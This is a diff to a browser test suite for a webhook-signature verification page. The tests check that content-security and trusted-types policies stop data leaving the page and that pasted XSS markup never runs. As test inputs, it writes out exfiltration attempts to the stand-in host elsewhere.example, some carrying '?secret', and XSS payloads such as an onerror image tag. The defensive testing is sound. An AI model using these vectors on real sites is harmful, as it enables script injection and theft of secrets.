@@ -1,6 +1,6 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { openSite } from '../../../.ci/page/open.mjs'
-import { generate, openTab, PUT, putIntoVerify, secretsOf, TAMPER, verdict } from './steps.mjs'
+import { generate, openTab, PUT, pressVerify, putIntoVerify, secretsOf, TAMPER, verdict } from './steps.mjs'
 
 let site
 beforeAll(async () => {
@@ -64,15 +64,16 @@ describe('nothing leaves the page', () => {
       "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://elsewhere.example/' }))",
       'frame-src',
     ],
+    ['a script', "import('https://elsewhere.example/').catch(() => {})", 'script-src-elem'],
     [
-      'a script',
-      "document.body.append(Object.assign(document.createElement('script'), { src: 'https://elsewhere.example/' }))",
-      'script-src-elem',
+      'an element of script',
+      "try { document.createElement('script').src = 'https://elsewhere.example/' } catch {}",
+      'require-trusted-types-for',
     ],
     [
       'an inline script',
-      "document.body.append(Object.assign(document.createElement('script'), { textContent: '1' }))",
-      'script-src-elem',
+      "try { document.createElement('script').textContent = '1' } catch {}",
+      'require-trusted-types-for',
     ],
     [
       'an inline style',
@@ -89,10 +90,38 @@ describe('nothing leaves the page', () => {
       "document.head.append(Object.assign(document.createElement('base'), { href: 'https://elsewhere.example/' }))",
       'base-uri',
     ],
+    [
+      'a prefetch',
+      "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'https://elsewhere.example/?secret' }))",
+      'default-src',
+    ],
+    [
+      'a ping',
+      "Object.assign(document.createElement('a'), { href: '#', ping: 'https://elsewhere.example/' }).click()",
+      'connect-src',
+    ],
+    ['a transport', "try { new WebTransport('https://elsewhere.example/') } catch {}", 'connect-src'],
+    ['a worker', "try { new Worker('./worker.js') } catch {}", 'require-trusted-types-for'],
+    [
+      'a worker of the site',
+      "navigator.serviceWorker.register('./worker.js').catch(() => {})",
+      'require-trusted-types-for',
+    ],
+    ['markup', "try { document.body.innerHTML = '<p>' } catch {}", 'require-trusted-types-for'],
   ])('by %s: the policy stands in its way, and this test sees it', async (_, attempt, directive) => {
     const page = await site.open()
     await page.evaluate(attempt)
     await expect.poll(() => page.noticed).toContain(`policy: ${directive}`)
+    await page.context().close()
+  })
+
+  it.each([
+    ['another address', "location.href = 'https://elsewhere.example/?secret'", /^request: GET https:/],
+    ['another window', "open('about:blank#secret')", /^window: about:blank#secret/],
+  ])('by %s, which no policy of a page forbids: this test sees it', async (_, attempt, seen) => {
+    const page = await site.open()
+    await page.evaluate(attempt)
+    await expect.poll(() => page.noticed).toContainEqual(expect.stringMatching(seen))
     await page.context().close()
   })
 
@@ -106,6 +135,42 @@ describe('nothing leaves the page', () => {
   })
 })
 
+describe('what is pasted', () => {
+  const markup = '<img src=x onerror=alert(1)><script>alert(1)</script>'
+  const har = {
+    log: {
+      entries: [
+        {
+          request: {
+            method: 'POST',
+            url: `https://receiver.example/${markup}`,
+            headers: [{ name: 'X-Autify-Signature', value: `"'>${markup}` }],
+            postData: { mimeType: markup, text: markup },
+          },
+        },
+      ],
+    },
+  }
+
+  it.each([
+    ['raw HTTP', `POST / HTTP/1.1\nX-Autify-Signature: "'>${markup}\n\n${markup}`],
+    ['a HAR', JSON.stringify(har)],
+    ['a curl command', `curl 'https://receiver.example/' -H 'X-Autify-Signature: "${markup}' --data-raw '${markup}'`],
+    ['nothing that can be read', markup],
+  ])('as %s is text, whatever it looks like', async (_, pasted) => {
+    const page = await site.open()
+    const panel = await openTab(page, 'Verify')
+    await panel.getByLabel('Provider').selectOption('Autify')
+    await panel.getByLabel('Id', { exact: true }).fill(markup)
+    await panel.getByLabel('Secret', { exact: true }).fill(`a-made-up-secret${markup}`)
+    await panel.getByLabel('Request', { exact: true }).fill(pasted)
+    await pressVerify(panel)
+    expect(await page.evaluate(() => document.querySelectorAll('img, body script, [onerror]').length)).toBe(0)
+    expect(page.noticed).toEqual([])
+    await page.context().close()
+  })
+})
+
 describe('nothing is kept', () => {
   it('in any store of the browser', async () => {
     const { page } = await visit()
@@ -113,6 +178,7 @@ describe('nothing is kept', () => {
     await page.reload()
     const panel = await openTab(page, 'Verify')
     expect(await panel.getByLabel('Secret', { exact: true }).inputValue()).toBe('')
+    expect(await panel.getByLabel('Request', { exact: true }).inputValue()).toBe('')
     expect(await page.evaluate(() => document.documentElement.dataset.theme)).toBeUndefined()
     await page.context().close()
   })
@@ -162,6 +228,21 @@ describe('a secret', () => {
     await page.context().close()
   })
 
+  it('is not completed, corrected or remembered by the browser, and neither is what it signs', async () => {
+    const page = await site.open()
+    const panel = await openTab(page, 'Verify')
+    await panel.getByRole('button', { name: 'Show the secret of key-1' }).click()
+    const fields = await page.evaluate(() =>
+      [...document.querySelectorAll('textarea, input:is([type=text], [type=password])')].map(
+        (field) =>
+          `${field.getAttribute('autocomplete')} ${field.getAttribute('autocorrect')} ${field.getAttribute('spellcheck')}`,
+      ),
+    )
+    expect(fields.length).toBeGreaterThan(6)
+    expect(fields.filter((value) => value !== 'off off false')).toEqual([])
+    await page.context().close()
+  })
+
   it('is hidden until its owner asks', async () => {
     const page = await site.open()
     const panel = await openTab(page, 'Verify')
@@ -169,6 +250,8 @@ describe('a secret', () => {
     expect(await field.getAttribute('type')).toBe('password')
     await panel.getByRole('button', { name: 'Show the secret of key-1' }).click()
     expect(await field.getAttribute('type')).toBe('text')
+    // What is seen is what is heard.
+    expect(await panel.getByRole('button', { name: 'Hide the secret of key-1' }).textContent()).toBe('Hide')
     await page.context().close()
   })
 })
